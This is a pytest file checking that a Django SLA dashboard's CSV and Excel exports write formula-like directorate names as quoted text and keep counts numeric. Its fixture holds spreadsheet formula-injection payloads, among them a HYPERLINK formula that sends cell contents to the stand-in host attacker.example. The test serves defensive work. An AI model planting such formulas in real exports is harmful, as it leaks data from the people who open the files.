"""The SLA dashboard's exports written by core.exports: a directorate whose name starts
like a formula is written as text in both files, the numbers stay numbers, and neither
file is cached."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from consultations.channels import Channel
from consultations.rollup import refresh_rollup
from consultations.workflow import Status

from .conftest import WIB
from .factories import ConsultationFactory, directorate

NOW = datetime(2025, 6, 10, 10, 0, tzinfo=WIB)
PERIOD = "?dari=2025-04&sampai=2025-06"
HOSTILE = {
    "pusat": '=HYPERLINK("http://attacker.example/?d="&A1,"Lihat lampiran")',
    "daerah": "+1+1",
    "hukum": "@SUM(A1)",
}


@pytest.fixture
def hostile_names(db):
    """Directorates named like formulas (by a careless or hostile admin), each with cases."""
    with time_machine.travel(NOW, tick=False):
        for code, name in HOSTILE.items():
            unit = directorate(code)
            unit.name = unit.name_en = name
            unit.save(update_fields=["name", "name_en"])
            submitted = datetime(2025, 5, 5, 10, tzinfo=WIB)
            ConsultationFactory(
                directorate=unit, channel=Channel.WEBSITE, status=Status.DELIVERED, submitted_at=submitted,
                due_at=submitted + timedelta(days=14), completed_at=submitted + timedelta(days=7),
                completed_on_time=True, working_days_taken=5,
            )
        refresh_rollup()
        yield


def test_the_csv_writes_hostile_names_as_text(hostile_names, login, admin_user):
    with time_machine.travel(NOW, tick=False):
        response = login(admin_user).get(reverse("consultations:dashboard_csv") + PERIOD)
    assert response.status_code == 200 and response["Cache-Control"] == "private, no-store"
    rows = list(csv.reader(io.StringIO(response.getvalue().decode("utf-8")[1:], newline="")))
    named = {row[1]: row for row in rows if row[0] == "Direktorat"}
    assert set(named) == {"'" + name for name in HOSTILE.values()}
    assert all(row[2:4] == ["1", "1"] for row in named.values())
    assert rows[1][:4] == ["Total", "Semua", "3", "3"]


def test_the_workbook_writes_hostile_names_as_text_and_numbers_as_numbers(hostile_names, login, admin_user):
    with time_machine.travel(NOW, tick=False):
        response = login(admin_user).get(reverse("consultations:dashboard_xlsx") + PERIOD)
    assert response.status_code == 200 and response["Cache-Control"] == "private, no-store"
    book = load_workbook(io.BytesIO(response.getvalue()))
    sheet = book[book.sheetnames[0]]
    named = [row for row in sheet.iter_rows() if row[0].value == "Direktorat"]
    assert {row[1].value for row in named} == {"'" + name for name in HOSTILE.values()}
    for row in named:
        assert row[1].data_type == "s"
        assert (row[2].value, row[2].data_type, row[3].value, row[3].data_type) == (1, "n", 1, "n")
    about = {row[0].value: row[1] for row in book[book.sheetnames[1]].iter_rows()}
    assert about["Direktorat"].value.startswith("'=HYPERLINK") and about["Direktorat"].data_type == "s"
    assert not [c for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"]
